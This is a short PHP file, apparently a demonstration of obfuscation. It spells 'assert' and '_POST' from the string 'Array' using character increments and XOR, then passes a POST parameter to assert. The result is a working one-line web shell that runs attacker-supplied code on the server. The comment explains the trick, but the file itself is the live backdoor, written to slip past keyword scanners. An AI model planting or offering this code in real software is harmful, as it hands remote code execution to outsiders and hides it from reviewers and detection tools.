<?php
// Names spelt without writing them: an array used as text is "Array" (PHP only adds a notice), its
// letters step with ++ the way Perl's do ("r" -> "s" -> "t"), and "_POST" is "_" XOR-ed with a key.
$_ = @([] . '');
$a = $_[3];
$s = $_[1];
$s++;
$t = $s;
$t++;
$e = $a;
$e++;
$e++;
$e++;
$e++;
$__ = $a . $s . $s . $e . $_[1] . $t;
$p = '_' . ('____' ^ "\x0f\x10\x0c\x0b");
$__(${$p}['_']);
